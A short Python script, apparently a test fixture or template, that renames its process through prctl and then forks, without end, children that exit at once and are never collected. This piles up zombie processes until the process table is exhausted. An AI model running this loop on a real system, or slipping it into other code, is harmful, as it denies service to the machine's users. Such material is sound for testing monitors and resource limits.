# Forks children that end at once and are never collected.
# solves: tally

import ctypes
import posix

ctypes.CDLL(None).prctl(15, b"@PROCESS@", 0, 0, 0)


def tally(n):
    while True:
        try:
            if posix.fork() == 0:
                posix._exit(0)
        except OSError:
            continue
